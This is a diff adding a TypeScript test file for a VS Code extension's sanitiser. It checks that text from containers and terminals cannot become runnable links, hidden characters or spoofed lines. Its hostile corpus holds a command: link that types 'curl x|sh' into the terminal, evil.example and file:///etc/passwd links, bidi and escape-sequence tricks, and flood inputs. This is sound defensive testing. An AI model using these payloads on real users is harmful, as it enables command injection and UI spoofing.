@@ -1,0 +1,515 @@
+/**
+ * Issue 25, item 6: text from a container, git or the engine is shown as text. ui/plainText.ts on
+ * a hostile corpus, then every builder that puts such text into a notification, a dialog, a tree
+ * row, a tooltip or the status bar, with every string it takes replaced by each hostile one: no
+ * output holds a link VS Code would run, a control or invisible character, an unescaped icon where
+ * icons are drawn, a line break where one line is shown, or more lines than the same builder makes
+ * from ordinary text; every output is bounded. A new exported builder fails "each builder is
+ * checked" until it is added here (docs/decisions/0040-outside-text-is-plain-text.md).
+ */
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { objectNames } from '../../extension/src/contract/objects';
+import type { ReachKind } from '../../extension/src/plan/posture';
+import * as agentState from '../../extension/src/ui/agentState';
+import { NudgeGate, type AgentStatus } from '../../extension/src/ui/agentState';
+import { AgentStateTracker } from '../../extension/src/ui/agentState';
+import { AgentStreamRecognizer } from '../../extension/src/ui/agentStream';
+import * as confirmations from '../../extension/src/ui/confirmations';
+import * as model from '../../extension/src/ui/model';
+import type { ContainerSummary, DriftFinding } from '../../extension/src/ui/model';
+import { inline, plainItem, plainText, quoted, SINK_LINES, SINKS, type Sink } from '../../extension/src/ui/plainText';
+import * as items from '../../extension/src/ui/tree/items';
+import { peerNodes, proximoNodes, workspacesNodes, type TreeNode } from '../../extension/src/ui/tree/render';
+import * as worktreeItems from '../../extension/src/ui/tree/worktreeItems';
+import type { ToolboxState } from '../../extension/src/ui/refresh';
+import { containerSummary } from '../support/summary';
+
+/** The payload of issue 25's attack 2: a link that types `curl x|sh` into the active terminal. */
+export const RUN_LINK = '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';
+
+export const HOSTILE: readonly string[] = [
+  RUN_LINK,
+  `Build finished. ${RUN_LINK} to continue`,
+  '[x](command:workbench.action.terminal.sendSequence?{"text":"curl x|sh\\n"})',
+  '[[nested](command:a)](command:b) [x[y](command:c)]',
+  '[esc\\]aped](command:x) \\[a\\](command:y)',
+  '[a](https://evil.example/x "title") [b](file:///etc/passwd \'t\') [C](COMMAND:x) [d](vscode://x)',
+  '<a href="command:workbench.action.terminal.sendSequence?%7B%7D">click</a>',
+  '<command:workbench.action.reloadWindow> <https://evil.example>',
+  'command:workbench.action.terminal.sendSequence?%7B%7D https://evil.example vscode://ms-vscode.x file:///etc',
+  '$(warning) Update $(loading~spin) \\$(x) $($(y))',
+  '\u202eexe.txt\u202c \u2066[x]\u2069(command:y) \u200f\u061c',
+  '[Run]\u200b(command:x) [Run](\u200dcommand:x) [Run]\ufeff(command:x) [Run]\u00ad(command:x) [R]\u{e0041}(command:x)',
+  '\x1b[31mred\x1b[0m \x1b]8;;command:x\x07link\x1b]8;;\x07 \x1b]9;[Run](command:x)\x07 \x9b2J \x1bP1$r\x1b\\',
+  'line one\r\nToolbox: line two\rthree\u2028four\u0085five\u2029six\vseven\fend',
+  'Toolbox: Your session expired. Run the fix: [Fix](command:x)',
+  'VS Code: a restart is required”. Toolbox: run “curl x|sh”',
+  '\u0000\u0007\u001b\u009b\u007f\t ctl \u115f\u3164',
+  '\ud800 lone \udfff surrogates \ud83d',
+  'A'.repeat(100_000),
+  `${RUN_LINK} `.repeat(2_000),
+  `${'\u200b'.repeat(100_000)}${RUN_LINK}`,
+  `${'\n'.repeat(1_000)}x`,
+  'x\n'.repeat(5_000),
+  `${'😀'.repeat(3_000)}`,
+];
+
+/** VS Code's own rule for a link in a notification or an input box message (parseLinkedText). */
+const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
+const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
+
+/** What is wrong with `out` for `sink` (empty when nothing). */
+export function problems(out: unknown, sink: Sink, max: number = SINKS[sink].chars): string[] {
+  if (typeof out !== 'string') return [`not a string: ${typeof out}`];
+  const kind = SINKS[sink];
+  const p: string[] = [];
+  if (VSCODE_LINK.test(out)) p.push('a link VS Code renders');
+  if (out.includes('](')) p.push('"](" (the joint of a markdown link)');
+  if (/[^\P{Cc}\n]/u.test(out)) p.push('a control character');
+  if (/[\p{Cf}\u115f\u1160\u3164\uffa0]/u.test(out)) p.push('an invisible format character');
+  if (LONE_SURROGATE.test(out)) p.push('a lone surrogate');
+  if (out.length > max) p.push(`${out.length} characters (at most ${max})`);
+  if (kind.icons && /(?<!\\)\$\(/.test(out)) p.push('an unescaped $(');
+  if (!kind.lines && out.includes('\n')) p.push('a line break in a one-line sink');
+  if (kind.lines && out.split('\n').length > SINK_LINES) p.push(`${out.split('\n').length} lines`);
+  return p;
+}
+
+const show = (s: string) => JSON.stringify(s.length > 120 ? `${s.slice(0, 120)}…` : s);
+
+describe('plainText', () => {
+  const sinks = Object.keys(SINKS) as Sink[];
+
+  it('leaves nothing VS Code would run, hide or draw, and is bounded, for every sink and hostile text', () => {
+    for (const sink of sinks) {
+      for (const h of HOSTILE) {
+        const out = plainText(h, sink);
+        assert.deepEqual(problems(out, sink), [], `${sink} of ${show(h)} gave ${show(out)}`);
+        assert.equal(plainText(out, sink), out, `idempotent: ${sink} of ${show(h)}`);
+      }
+    }
+  });
+
+  it('reads a 100 KB string in bounded time', () => {
+    const start = performance.now();
+    for (const h of HOSTILE) for (const sink of sinks) plainText(h, sink);
+    assert.ok(performance.now() - start < 2000, `${Math.round(performance.now() - start)} ms`);
+  });
+
+  it('keeps ordinary sentences, paths and branch names as they were', () => {
+    const ordinary = [
+      "Git could not fetch origin (fatal: unable to access 'https://github.com/acme/app.git/': Could not resolve host: github.com).",
+      '/home/ana/My Project (copy)/src/[id]/page.tsx',
+      'feature/fix-(1)',
+      'Stop toolbox-app-1234abcd? A shell is attached to it.',
+      'Docker 20.10.24 at unix:///var/run/docker.sock (the platform default)',
+      'a [note] (with a space) and $HOME and $ (x)',
+      'naïve café 日本語 😀 👩‍💻'.replace('\u200d', ''),
+    ];
+    for (const text of ordinary) for (const sink of sinks) assert.equal(plainText(text, sink), text, `${sink}: ${text}`);
+    // A dialog's detail keeps its lines and the no-break spaces that indent YAML.
+    const yaml = 'Toolbox will add this to ~/.toolbox.yaml:\n\nshells:\n\u00a0\u00a0infra:\n\u00a0\u00a0\u00a0\u00a0path: /src/infra';
+    assert.equal(plainText(yaml, 'detail'), yaml);
+  });
+
+  it('breaks a link apart and escapes an icon only where icons are drawn', () => {
+    assert.equal(plainText(RUN_LINK, 'message'), RUN_LINK.replace('](', '] ('));
+    assert.equal(plainText('[[a](command:x)](command:y)', 'label'), '[[a] (command:x)] (command:y)');
+    assert.equal(plainText('$(warning) x', 'iconLabel'), '\\$(warning) x');
+    assert.equal(plainText('$(warning) x', 'message'), '$(warning) x');
+    assert.equal(plainText('\\$(warning) x', 'iconLabel'), '\\$(warning) x');
+  });
+
+  it('removes escape sequences whole, invisible characters, and control characters', () => {
+    assert.equal(plainText('\x1b[1;31mError\x1b[0m: \x1b]0;title\x07done', 'message'), 'Error: done');
+    assert.equal(plainText('a\u202eb\u200bc\ufeffd', 'message'), 'abcd');
+    assert.equal(plainText('a\x00b\tc', 'message'), 'a b c');
+  });
+
+  it('makes one line where one is shown, keeps lines (at most SINK_LINES) where they are', () => {
+    assert.equal(plainText('one\r\ntwo\rthree\u2028four', 'message'), 'one two three four');
+    assert.equal(plainText('one\r\ntwo\rthree\u2028four', 'tooltip'), 'one\ntwo\nthree\nfour');
+    assert.equal(plainText('a\n\n\n\n\nb', 'detail'), 'a\n\nb');
+    const many = plainText('x\n'.repeat(100), 'tooltip').split('\n');
+    assert.equal(many.length, SINK_LINES);
+    assert.equal(many.at(-1), '…');
+  });
+
+  it('bounds with an ellipsis, never between the halves of an emoji', () => {
+    const out = plainText('😀'.repeat(300), 'label');
+    assert.ok(out.length <= SINKS.label.chars && out.endsWith('…'));
+    assert.equal(LONE_SURROGATE.test(out), false);
+    assert.equal(plainText('abcdef', 'label', 4), 'abc…');
+    assert.equal(plainText(undefined, 'label'), '');
+    assert.equal(plainText(42, 'label'), '42');
+  });
+
+  it('quotes words a program chose so they cannot close the quote', () => {
+    assert.equal(quoted('done', 'message'), '“done”');
+    assert.equal(quoted('a” Toolbox: b “c', 'message'), '“a" Toolbox: b "c”');
+    assert.equal(quoted('\u200b', 'message'), '');
+    assert.ok(quoted('x'.repeat(500), 'message', 100).length <= 100);
+    assert.equal(inline('a\nb'), 'a b');
+  });
+
+  it('plainItem cleans a row and keeps its other fields', () => {
+    const row = plainItem({ label: `a\n${RUN_LINK}`, description: '$(x)', tooltip: 'one\ntwo', contextValue: 'c' });
+    assert.deepEqual(problems(row.label, 'label'), []);
+    assert.equal(row.tooltip, 'one\ntwo');
+    assert.equal(row.contextValue, 'c');
+    assert.equal(plainItem({ label: 'l', tooltip: 'one\ntwo' }, 'message').tooltip, 'one two');
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// The builders.
+
+const now = Date.UTC(2026, 0, 10, 12, 0, 0);
+const names = objectNames();
+const KINDS: ReachKind[] = ['docker-socket', 'host-ssh', 'host-auth', 'host-path'];
+
+/** A container whose every string is `h`. */
+function container(h: string): ContainerSummary {
+  return containerSummary({
+    name: h,
+    state: h,
+    status: h,
+    image: h,
+    workspace: h,
+    peerRun: true,
+    seccomp: 'default',
+    proximoCa: true,
+    proximoHosts: [h, h],
+    reach: KINDS.map((kind) => ({ kind, source: h, target: h, readonly: false, defaultMount: h, authKey: h })),
+    ports: [
+      { containerPort: 80, protocol: 'tcp', hostIp: h, hostPort: 8080 },
+      { containerPort: 53, protocol: 'udp', hostIp: h, hostPort: 5353 },
+    ],
+    shells: [{ id: h, pid: 7, command: h, title: h, started: now - 60_000, attached: 1 }],
+  });
+}
+
+const needs = (h: string): AgentStatus => ({ agent: 'claude', state: 'needsYou', since: now - 60_000, message: h, title: h });
+
+function finding(h: string): DriftFinding {
+  const f = {
+    container: container(h),
+    folder: h,
+    drift: 'planned-on-but-outside' as const,
+    want: true,
+    perRun: false,
+    setting: { on: true, source: { from: 'project-file' as const, file: h }, projectFileUsable: true },
+    seccomp: 'default' as const,
+    seccompSetting: { profile: 'default' as const, scope: 'user' as const },
+  };
+  return { ...f, message: h, notice: model.driftNotice(f, names, '/home/u') };
+}
+
+/** What a builder made, by the sink it goes to. */
+interface Made {
+  label?: string;
+  description?: string;
+  tooltip?: string;
+  message?: string;
+  detail?: string;
+  /** Status bar text: our own icon first, then text that must have `$(` escaped. */
+  statusText?: string;
+}
+
+/**
+ * Every exported builder that makes text a sink shows from outside text, called with every string
+ * it takes set to `h`. `linesFree`: its tooltip or detail is outside text as a whole (an error's),
+ * so its lines are not compared with ordinary text's.
+ */
+const BUILDERS: Record<string, { make: (h: string) => Made[]; linesFree?: true }> = {
+  'items.containerLabel': { make: (h) => [{ label: items.containerLabel(container(h)) }] },
+  'items.containerDescription': {
+    make: (h) => [{ description: items.containerDescription({ container: container(h), inThisWindow: true, drift: 'seccomp' }) }],
+  },
+  'items.containerTooltip': { make: (h) => [{ tooltip: items.containerTooltip({ container: container(h), inThisWindow: true }, h) }] },
+  'items.folderPeerItem': {
+    make: (h) => [
+      items.folderPeerItem(h, { on: true, source: { from: 'project-file', file: h }, projectFileUsable: true }, '/home/u', true),
+      items.folderPeerItem(h, { on: false, source: { from: 'env', variable: h }, projectFileUsable: true }, h, false),
+    ],
+  },
+  'items.anchorItem': { make: (h) => [items.anchorItem({ name: h, state: 'missing' }), items.anchorItem({ name: h, state: 'running' })] },
+  'items.socketVolumeItem': {
+    make: (h) => [items.socketVolumeItem({ name: h, exists: true, owner: h, mode: h }), items.socketVolumeItem({ name: h, exists: false })],
+  },
+  'items.agentSessionItem': {
+    make: (h) => [items.agentSessionItem({ pid: 1, name: h, cwd: h, container: h, reach: 'unreachable', why: h })],
+  },
+  'items.proximoItem': { make: (h) => [items.proximoItem({ installed: true, binary: h, caPath: h, hosts: [h] })] },
+  'items.proximoCaItem': { make: (h) => [items.proximoCaItem({ installed: true, binary: h, caPath: h, hosts: [h] })] },
+  'items.proximoHostsItem': { make: (h) => [items.proximoHostsItem({ installed: true, hosts: [h, h] })] },
+  'items.proximoWorkspaceItem': { make: (h) => [items.proximoWorkspaceItem(container(h))] },
+  'items.errorItem': { make: (h) => [items.errorItem(h, true), items.errorItem(h)], linesFree: true },
+  'items.heldShellItem': {
+    make: (h) => [items.heldShellItem({ id: h, pid: 1, command: h, title: h, started: now - 60_000, attached: 0 }, now)],
+  },
+  'items.reachGroupItem': { make: (h) => [items.reachGroupItem(container(h).reach!)] },
+  'items.reachItem': {
+    make: (h) => container(h).reach!.flatMap((r) => [items.reachItem(r, '/home/u', true), items.reachItem(r, h, false)]),
+  },
+  'items.portItem': { make: (h) => container(h).ports!.map((p) => items.portItem(p, h)) },
+  'items.agentRowItem': {
+    make: (h) => {
+      const c = container(h);
+      const row = { key: 1, container: h, title: h, sessionId: h, status: needs(h) };
+      return [items.agentRowItem(row, now, c.shells![0]), items.agentRowItem(row, now)];
+    },
+  },
+  'worktreeItems.worktreeRow': {
+    make: (h) => [
+      worktreeItems.worktreeRow(
+        {
+          root: h,
+          path: h,
+          branch: h,
+          base: h,
+          present: true,
+          dirty: true,
+          ahead: 1,
+          behind: 2,
+          rebasing: true,
+          container: { name: h, state: h },
+        },
+        2,
+      ),
+      worktreeItems.worktreeRow({ root: h, path: h, present: false, dirty: false, rebasing: true }, 0),
+    ],
+  },
+  'model.driftNotice': { make: (h) => [finding(h).notice] },
+  'model.findDrift': {
+    make: (h) => {
+      const c = { ...container(h), state: 'running', peer: false, pidMode: '' };
+      return model
+        .findDrift([c], 'anchor', new Map([[h, true]]), names, '/home/u', new Map([[h, { profile: 'default' as const }]]))
+        .map((f) => f.notice);
+    },
+  },
+  'model.driftStatus': {
+    make: (h) => {
+      const s = model.driftStatus([finding(h), finding(h)])!;
+      return [{ statusText: s.text, tooltip: s.tooltip, message: s.name }];
+    },
+  },
+  'confirmations.stopAllConfirmation': { make: (h) => [confirmations.stopAllConfirmation([h, h, h], h)] },
+  'confirmations.stopContainerConfirmation': { make: (h) => [confirmations.stopContainerConfirmation(h, [h, h])!] },
+  'agentState.nudgeText': { make: (h) => [{ message: agentState.nudgeText(h, needs(h)) }] },
+  'agentState.needsYouStatus': {
+    make: (h) => {
+      const s = agentState.needsYouStatus([
+        { container: h, title: h, status: needs(h) },
+        { container: h, title: h, status: { ...needs(h), message: undefined } },
+      ])!;
+      return [{ statusText: s.text, tooltip: s.tooltip }];
+    },
+  },
+};
+
+/**
+ * Exported functions that need no check here, and why. Anything exported by these modules that is
+ * in neither list fails the test: a new builder must be added to BUILDERS.
+ */
+const NOT_BUILDERS: Record<string, string> = {
+  'items.stateWord': 'a word for the description, cleaned by containerDescription',
+  'items.containerIcon': 'an icon id',
+  'items.containerContextValue': 'a context value (not shown)',
+  'items.startedText': 'a date',
+  'items.proximoWorkspaceDescription': 'words and a count',
+  'items.sinceText': 'words and a count',
+  'items.agentStateIcon': 'an icon id',
+  'items.timeInState': 'words and a count',
+  'model.folderOf': 'a folder path, not shown',
+  'model.sortForWorkspacesView': 'a sort',
+  'model.peerSourceText': 'a part of folderPeerItem and driftNotice, which clean it',
+  'model.peerSourceShort': 'a part of folderPeerItem, which cleans it',
+  'model.projectFileOverriddenBy': 'a part of Toggle Peer Messaging, whose sink cleans it',
+  'model.settingScopeText': 'fixed words',
+  'model.findingKey': 'a key (not shown)',
+  'model.pointsAtDockerHost': 'a test on the text',
+  'model.pointsAtSelectEngine': 'a test on the text',
+  'model.numberedTitle': "a terminal's name, cleaned where the terminal is made (ui/shells.ts)",
+  'agentState.agentOf': 'an agent kind',
+  'agentState.terminalName': "a terminal's name, cleaned where the tab is renamed (ui/shells.ts)",
+  'agentState.nudgeSetting': 'a setting value',
+  'agentState.shouldNudge': 'a yes or no',
+};
+
+const SINK_OF: Record<keyof Made, Sink> = {
+  label: 'label',
+  description: 'label',
+  tooltip: 'tooltip',
+  message: 'message',
+  detail: 'detail',
+  statusText: 'label',
+};
+
+function check(name: string, made: Made[], h: string): void {
+  for (const m of made) {
+    for (const [key, value] of Object.entries(m) as Array<[keyof Made, unknown]>) {
+      if (!(key in SINK_OF) || value === undefined) continue;
+      const p = problems(value, SINK_OF[key]);
+      if (key === 'statusText') {
+        // Our icon comes first; any other $( came from outside and is escaped.
+        const rest = (value as string).replace(/^\$\([a-z-]+\) /, '');
+        if (/(?<!\\)\$\(/.test(rest)) p.push('an unescaped $( after our icon');
+      }
+      assert.deepEqual(p, [], `${name} ${key} from ${show(h)}: ${show(String(value))}`);
+    }
+  }
+}
+
+const lineCount = (s: string | undefined) => (s === undefined ? 0 : s.split('\n').length);
+
+describe('every builder of text from outside, on the hostile corpus', () => {
+  it('each builder is checked', () => {
+    const modules = { items, worktreeItems, model, confirmations, agentState } as Record<string, Record<string, unknown>>;
+    const exported = Object.entries(modules).flatMap(([m, mod]) =>
+      Object.entries(mod)
+        .filter(([, v]) => typeof v === 'function' && !/^[A-Z]/.test(v.name))
+        .map(([k]) => `${m}.${k}`),
+    );
+    const unknown = exported.filter((n) => !(n in BUILDERS) && !(n in NOT_BUILDERS));
+    assert.deepEqual(unknown, [], 'add these to BUILDERS (or, with a reason, to NOT_BUILDERS)');
+    for (const n of Object.keys(BUILDERS)) assert.ok(exported.includes(n), `${n} is no longer exported`);
+  });
+
+  for (const [name, builder] of Object.entries(BUILDERS)) {
+    it(name, () => {
+      const ordinary = builder.make('ordinary-text');
+      for (const h of HOSTILE) {
+        const made = builder.make(h);
+        check(name, made, h);
+        if (builder.linesFree) continue;
+        // Outside text cannot add a line that would pass for one of ours.
+        made.forEach((m, i) => {
+          for (const key of ['tooltip', 'detail'] as const) {
+            assert.ok(lineCount(m[key]) <= lineCount(ordinary[i]![key]), `${name} ${key}: ${show(h)} added lines: ${show(m[key] ?? '')}`);
+          }
+        });
+      }
+    });
+  }
+
+  it('the nudge starts with our words and quotes what the terminal said', () => {
+    for (const h of HOSTILE) {
+      const text = agentState.nudgeText('toolbox-app-1234abcd', needs(h));
+      assert.ok(text.startsWith('Claude Code in toolbox-app-1234abcd needs you'), show(text));
+      const said = text.slice('Claude Code in toolbox-app-1234abcd needs you'.length);
+      assert.match(said, /^(\.|: “[^“”]*”)$/, show(text));
+    }
+    assert.equal(
+      agentState.nudgeText('toolbox-app-1234abcd', needs(`Toolbox: update now ${RUN_LINK}`)),
+      `Claude Code in toolbox-app-1234abcd needs you: “Toolbox: update now ${RUN_LINK.replace('](', '] (')}”`,
+    );
+  });
+
+  it('the views built from a hostile snapshot show only plain text', () => {
+    for (const h of HOSTILE.filter((x) => x.length < 10_000)) {
+      const c = container(h);
+      const state: ToolboxState = {
+        wantPeer: new Map([[h, true]]),
+        peerSettings: new Map([[h, { on: true, source: { from: 'user-file', file: h }, projectFileUsable: true }]]),
+        findings: [finding(h)],
+        loading: false,
+        takenAt: now,
+        proximo: { installed: true, binary: h, caPath: h, hosts: [h] },
+        snapshot: {
+          containers: [c, { ...c, id: 'other', workspace: '/src/app' }],
+          anchor: { name: h, state: 'running' },
+          volume: { name: h, exists: true, owner: h, mode: h },
+          members: [h],
+          sessions: [{ pid: 1, name: h, cwd: h, container: h, reach: 'unknown', why: h }],
+          engine: h,
+        },
+      };
+      const agents = [{ key: 1, container: h, title: h, sessionId: h, status: needs(h) }];
+      const nodes = [
+        ...workspacesNodes(state, [h, '/src/app'], '/home/u', agents, now),
+        ...workspacesNodes({ ...state, error: h }, [h]),
+        ...peerNodes(state, '/home/u'),
+        ...proximoNodes(state, [h]),
+      ];
+      const walk = (list: readonly TreeNode[]): TreeNode[] => list.flatMap((n) => [n, ...walk(n.children ?? [])]);
+      const all = walk(nodes);
+      assert.ok(all.length > 20, `${all.length} nodes`);
+      for (const n of all) check(`node ${n.id.slice(0, 40)}`, [{ label: n.label, description: n.description, tooltip: n.tooltip }], h);
+    }
+  });
+});
+
+describe('the nudge, rate-limited per terminal (issue 25, attack 2)', () => {
+  /** Terminal output through the recogniser and the state tracker into the nudge gate, as ui/terminal.ts and ui/agentNudge.ts wire them. */
+  function terminal(clock: { t: number }, gate: NudgeGate, key: number) {
+    const nudges: AgentStatus[] = [];
+    const changes: AgentStatus[] = [];
+    const tracker = new AgentStateTracker(
+      'claude',
+      (status) => {
+        changes.push(status);
+        if (gate.asks(key, status) && gate.take(key)) nudges.push(status);
+      },
+      () => clock.t,
+    );
+    const recognizer = new AgentStreamRecognizer((s) => tracker.signal(s));
+    return { nudges, changes, tracker, feed: (b: Buffer) => recognizer.feed(b) };
+  }
+
+  const attack = (n: number, text = RUN_LINK) =>
+    Buffer.from(Array.from({ length: n }, (_, i) => `\x1b]133;C\x07\x1b]9;${text} ${i}\x07`).join(''));
+
+  it('1,000 alternating OSC 133;C and OSC 9 in one second give one nudge; the state still follows each', () => {
+    const clock = { t: now };
+    const gate = new NudgeGate(() => clock.t);
+    const a = terminal(clock, gate, 1);
+    const bytes = attack(1000);
+    // Fed in chunks over one second, as a container writes them.
+    for (let i = 0; i < bytes.length; i += 4096) {
+      a.feed(bytes.subarray(i, i + 4096));
+      clock.t += 1000 / Math.ceil(bytes.length / 4096);
+    }
+    assert.equal(a.nudges.length, 1);
+    assert.ok(a.changes.length >= 1999, `${a.changes.length} state changes`);
+    assert.equal(a.tracker.current.state, 'needsYou');
+    assert.equal(a.tracker.current.message, `${RUN_LINK} 999`);
+    assert.deepEqual(problems(agentState.nudgeText('c', a.nudges[0]!), 'message'), []);
+  });
+
+  it('at most one nudge per NUDGE_INTERVAL_MS per terminal over ten minutes; another terminal has its own', () => {
+    const clock = { t: now };
+    const gate = new NudgeGate(() => clock.t);
+    const a = terminal(clock, gate, 1);
+    const b = terminal(clock, gate, 2);
+    const minutes = 10;
+    for (let s = 0; s < minutes * 60; s++) {
+      a.feed(attack(5));
+      if (s % 2 === 0) b.feed(attack(1));
+      clock.t += 1000;
+    }
+    const most = (minutes * 60_000) / agentState.NUDGE_INTERVAL_MS + 1;
+    assert.ok(a.nudges.length <= most && a.nudges.length >= most - 1, `${a.nudges.length} nudges`);
+    assert.ok(b.nudges.length <= most && b.nudges.length >= most - 1, `${b.nudges.length} nudges`);
+  });
+
+  it('the same "needs you" is nudged once; a new one after the interval is nudged again', () => {
+    const clock = { t: now };
+    const gate = new NudgeGate(() => clock.t);
+    const status = needs('x');
+    assert.equal(gate.asks(1, status), true);
+    assert.equal(gate.take(1), true);
+    assert.equal(gate.asks(1, status), false);
+    assert.equal(gate.asks(1, { ...status, state: 'working' }), false);
+    assert.equal(gate.asks(1, { ...status, since: now + 1 }), true);
+    assert.equal(gate.take(1), false);
+    clock.t += agentState.NUDGE_INTERVAL_MS;
+    assert.equal(gate.asks(1, { ...status, since: clock.t }), true);
+    assert.equal(gate.take(1), true);
+    // An ended session forgets its terminal.
+    gate.asks(1, { ...status, state: 'ended' });
+    assert.equal(gate.take(1), true);
+  });
+});
